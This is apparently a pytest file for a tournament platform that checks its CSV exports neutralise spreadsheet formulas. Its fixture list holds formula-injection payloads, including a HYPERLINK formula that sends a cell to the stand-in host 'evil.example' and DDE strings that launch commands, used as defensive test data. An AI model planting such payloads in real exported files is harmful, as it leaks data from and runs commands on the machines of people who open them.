"""No CSV the platform serves carries a formula a user typed: every text cell
starting with ``= + - @`` (or a tab or carriage return) is prefixed with a
single quote; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

from flask import Flask

from shiai.tournaments.model import Result

ORG = "organiser-account"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_neutralised(rows: list[list[str]]) -> list[str]:
    """Every formula is shown as text; returns every cell."""
    cells = [cell for row in rows for cell in row]
    for formula in FORMULAS:
        assert formula.strip() not in cells, formula
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    return cells


def test_every_csv_export_neutralises_formulas_and_keeps_negative_numbers(
    sqlite_app: Flask,
) -> None:
    services = sqlite_app.extensions["shiai"]
    tournaments = services.tournaments
    # A system Shiai does not install has no faction list: its factions are free text
    # (every installed system names its factions: Kensei's lists, the skirmish warbands).
    tid = tournaments.create(ORG, name="=1+1", game_system="house-rules", rounds=1, seed="csv")
    for formula in FORMULAS:
        player = tournaments.register(tid, ORG, name=formula, club=formula, faction=formula)
        tournaments.check_in(tid, ORG, player)
    tournaments.pair_next_round(tid, ORG)
    tournaments.publish(tid, ORG, 1)
    for table in (1, 2, 3):
        tournaments.record_result(tid, ORG, 1, table, Result.a_wins(-1.5, 4))
    client = sqlite_app.test_client()
    results = _assert_neutralised(_rows(client.get(f"/tournaments/{tid}/export/results.csv").text))
    for formula in FORMULAS:  # (names are stored stripped: no leading tab)
        assert "'" + formula.strip() in results
    assert "-1.5" in results  # a number: not prefixed
    standings = _rows(client.get(f"/tournaments/{tid}/export/standings.csv").text)
    cells = _assert_neutralised(standings)
    assert "'" + FORMULAS[0] in cells
    differential = standings[0].index("vp_differential")
    assert {row[differential] for row in standings[1:]} == {"-5.5", "5.5"}
    for table in ("standings-progression", "faction-spread"):  # names and factions
        response = client.get(f"/meta.csv?table={table}&event={tid}")
        assert response.status_code == 200, table
        cells = _assert_neutralised(_rows(response.text))
        assert "'" + FORMULAS[1] in cells, table
    odds = client.get("/systems/kensei/odds.csv?table=hits")
    if odds.status_code == 200:
        _assert_neutralised(_rows(odds.text))
